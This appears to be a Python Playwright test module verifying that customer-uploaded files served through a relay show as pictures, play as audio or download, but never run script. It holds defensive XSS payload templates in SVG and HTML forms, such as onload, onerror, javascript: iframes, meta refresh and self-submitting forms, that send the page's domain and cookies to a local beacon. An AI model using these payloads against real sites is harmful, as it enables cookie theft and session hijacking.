"""What a browser does with a customer's files: it shows pictures, plays recordings, and runs
nothing.
"""

import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Page

from tests.browser.conftest import PATIENCE
from tests.functions.relayed import Relayed, relayed

SCRIPT = "new Image().src='{beacon}?'+document.domain+encodeURIComponent(document.cookie)"
SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="{script}" width="9" height="9">
<script>{script}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">
<img src="x" onerror="{script}"/><iframe src="javascript:{script}"/></body></foreignObject></svg>"""
HTML = """<!doctype html><title>hostile</title><script>{script}</script>
<body onload="{script}"><img src=x onerror="{script}"><svg onload="{script}"></svg>
<meta http-equiv="refresh" content="0;url={beacon}"><form action="{beacon}"></form>
<script>document.forms[0].submit()</script>"""
TYPES = ("image/svg+xml", "text/html", "image/png", "application/xhtml+xml", "text/xml", "")
WAYS = """url => {
    for (const [tag, name] of [["img", "src"], ["iframe", "src"], ["object", "data"],
                               ["embed", "src"], ["video", "src"], ["audio", "src"],
                               ["script", "src"]]) {
        const element = document.createElement(tag);
        element[name] = url;
        document.body.append(element);
    }
    const style = document.createElement("link");
    style.rel = "stylesheet";
    style.href = url;
    document.head.append(style);
}"""


@pytest.fixture(scope="module")
def relay(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Relayed]:
    with relayed(tmp_path_factory.mktemp("relay")) as running:
        yield running


@pytest.fixture
def tab(chromium: Browser, relay: Relayed) -> Iterator[Page]:
    """A page of the run itself: the worst place, for what runs there acts as the agent."""
    context = chromium.new_context(accept_downloads=True)
    opened = context.new_page()
    opened.set_default_timeout(PATIENCE)
    opened.goto(f"{relay.server.url}/page/nothing")
    yield opened
    context.close()


def _hostile(relay: Relayed, markup: str) -> bytes:
    beacon = f"{relay.files.url}/beacon"
    return markup.format(script=SCRIPT.format(beacon=beacon), beacon=beacon).encode()


def _open_in_every_way(page: Page, url: str) -> None:
    page.evaluate(WAYS, url)
    other = page.context.new_page()
    try:
        other.goto(url, wait_until="load")
    except Error as error:
        assert "Download is starting" in str(error)
    page.wait_for_timeout(300)
    other.close()


@pytest.mark.parametrize("markup", [SVG, HTML], ids=["svg", "html"])
def test_it_would_run_if_it_came_from_anywhere_else(relay: Relayed, tab: Page, markup: str) -> None:
    """So that the next test proves something."""
    relay.files.beacons = 0
    claimed = "image/svg+xml" if markup == SVG else "text/html"
    relay.files.files["open"] = (_hostile(relay, markup), claimed)
    _open_in_every_way(tab, f"{relay.files.url}/files/open")
    relay.server.wait_until(lambda: relay.files.beacons > 0)


@pytest.mark.parametrize("claimed", TYPES)
@pytest.mark.parametrize("markup", [SVG, HTML], ids=["svg", "html"])
def test_nothing_of_a_customers_file_runs(
    relay: Relayed, tab: Page, markup: str, claimed: str
) -> None:
    relay.files.beacons = 0
    kind = "image" if claimed.startswith("image/") else "document"
    url = relay.link(_hostile(relay, markup), kind, mime_type=claimed, filename="a.svg")
    _open_in_every_way(tab, url)
    assert relay.files.beacons == 0


def test_a_page_shows_a_picture_and_plays_a_recording(relay: Relayed, tab: Page) -> None:
    picture = relay.link(_png(3, 2), "image", mime_type="image/png")
    size: Any = tab.evaluate(
        """url => new Promise((done, fail) => {
            const image = new Image();
            image.onload = () => done([image.naturalWidth, image.naturalHeight]);
            image.onerror = () => fail(new Error("no picture"));
            image.src = url;
        })""",
        picture,
    )
    assert size == [3, 2]
    recording = relay.link(_wav(2), "audio", mime_type="audio/wav")
    heard: Any = tab.evaluate(
        """url => new Promise((done, fail) => {
            const audio = new Audio();
            audio.onerror = () => fail(new Error(audio.error.message));
            audio.onloadedmetadata = () => { audio.currentTime = 1.5; };
            audio.onseeked = () => done([audio.duration, audio.currentTime]);
            audio.src = url;
        })""",
        recording,
    )
    assert heard == [2, 1.5]


def test_a_picture_is_shown_as_a_page_of_its_own_and_a_document_is_saved(
    relay: Relayed, tab: Page, tmp_path: Path
) -> None:
    tab.goto(relay.link(_png(3, 2), "image", mime_type="image/png"))
    assert tab.evaluate("document.images[0].naturalWidth") == 3
    content = b"%PDF-1.7\n" + bytes(500)
    url = relay.link(content, "document", mime_type="application/pdf", filename="Réf 1.pdf")
    tab.goto(f"{relay.server.url}/page/nothing")
    with tab.expect_download() as saving:
        tab.evaluate("url => { location.href = url; }", url)
    saving.value.save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_bytes() == content
    assert saving.value.suggested_filename == "Réf 1.pdf"


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        whole = name + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    rows = (b"\0" + b"\x7f\x7f\x7f" * width) * height
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _wav(seconds: int) -> bytes:
    rate = 8000
    data = bytes([128]) * (rate * seconds)
    form = struct.pack("<HHIIHH", 1, 1, rate, rate, 1, 8)
    body = b"WAVEfmt " + struct.pack("<I", 16) + form + b"data" + struct.pack("<I", len(data))
    return b"RIFF" + struct.pack("<I", len(body) + len(data)) + body + data
